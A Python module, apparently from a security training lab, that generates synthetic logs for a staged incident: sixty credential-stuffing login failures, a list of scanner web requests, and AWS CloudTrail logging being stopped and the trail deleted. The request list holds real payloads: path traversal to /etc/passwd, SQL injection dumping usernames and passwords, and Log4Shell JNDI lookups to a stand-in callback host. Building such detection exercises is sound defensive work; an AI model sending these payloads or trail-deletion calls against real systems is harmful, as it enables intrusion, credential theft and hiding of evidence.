"""The incident in the product (minutes 38 to 44) and in AWS (minute 46)."""

from __future__ import annotations

from typing import Final

from lab.traffic.identifiers import guid
from lab.traffic.incident.stage import INTRUDER, SCANNER, STUFFER, Stage, Step
from lab.traffic.records.application import APPLICATIONS, Happening, event_record
from lab.traffic.records.aws_cloudtrail import AwsCall, call_record, person_identity
from lab.traffic.records.azure_appservice_http import Request, http_record
from lab.traffic.routes import Sent, send

STUFFED_LOGINS: Final = 60
_LOOKUP: Final = "${jndi:ldap://callback.example:1389/a}"

WEB_ATTACKS: Final = (
    Request("/download", "file=../../../../etc/passwd", status=400),
    Request("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", status=404),
    Request("/api/v2/attachments/..%5c..%5c..%5cwindows%5cwin.ini", status=404),
    Request("/api/v2/invoices", "sort=created'%20OR%20'1'%3D'1'--", status=500),
    Request("/api/v2/customers", "id=1%20UNION%20SELECT%20username,password%20FROM%20users--", status=400),
    Request("/api/v2/payments", "q=1;WAITFOR%20DELAY%20'0:0:5'--", status=500),
    Request("/login", status=200, user_agent=_LOOKUP),
    Request("/", f"x={_LOOKUP.replace('$', '%24').replace('{', '%7B').replace('}', '%7D')}", status=200),
    Request("/api/v2/users", "name=%24%7B%24%7Blower:j%7Dndi:rmi://callback.example/x%7D", status=400),
    Request("/.env", status=404),
    Request("/.git/config", status=404),
    Request("/wp-login.php", method="POST", status=404),
    Request("/admin/phpmyadmin/index.php", status=404),
    Request("/actuator/env", status=404),
    Request("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", method="POST", status=404),
)


def steps(stage: Stage) -> list[Step]:
    """Every step, in order of time."""
    return [_credential_stuffing(stage), _web_attacks(stage), _trail_stopped(stage)]


def _credential_stuffing(stage: Stage) -> Step:
    """Stolen passwords tried on the product, another user each time, from one address."""
    users = [(tenant, person) for tenant in stage.company.customers for person in tenant.people]
    sent: list[Sent] = []
    for number, (tenant, person) in enumerate(stage.rng.sample(users, STUFFED_LOGINS)):
        time = stage.at(38 + 3 * number / STUFFED_LOGINS)
        happening = Happening(
            event=f"authn_login_fail:{person.product_id}",
            result="Failure",
            description=f"{person.user_principal_name} authn_login_fail: wrong password",
            details={"request_id": guid(stage.rng), "route": "/api/v2/login", "reason": "wrong_password"},
        )
        record = event_record(APPLICATIONS[0], tenant, person, STUFFER, time, happening)
        sent.append(send(time, record))
    return Step("credential_stuffing", tuple(sent))


def _web_attacks(stage: Stage) -> Step:
    """A scanner's requests: other people's paths, other people's databases, and a lookup in a header."""
    sent: list[Sent] = []
    for number, request in enumerate(WEB_ATTACKS):
        time = stage.at(42 + 2 * number / len(WEB_ATTACKS))
        app = stage.tenant.web_apps[number % len(stage.tenant.web_apps)]
        record = http_record(stage.rng, stage.tenant, app, SCANNER, time, request)
        sent.append(send(time, record))
    return Step("web_attacks", tuple(sent))


def _trail_stopped(stage: Stage) -> Step:
    """Logging stopped, then the trail itself deleted."""
    company = stage.company
    region = company.aws_regions[0]
    trail = f"arn:aws:cloudtrail:{region}:{company.aws_account_id}:trail/{company.aws_trail}"
    sent: list[Sent] = []
    for name, minute in (("StopLogging", 46.0), ("DeleteTrail", 46.5)):
        time = stage.at(minute)
        call = AwsCall("cloudtrail", name, {"name": trail}, read_only=False, region=region)
        identity = person_identity(stage.rng, company, stage.victim, time)
        record = call_record(stage.rng, company, time, call, identity, INTRUDER.address)
        sent.append(send(time, record | {"responseElements": None}))
    return Step("cloud_trail_stopped", tuple(sent))
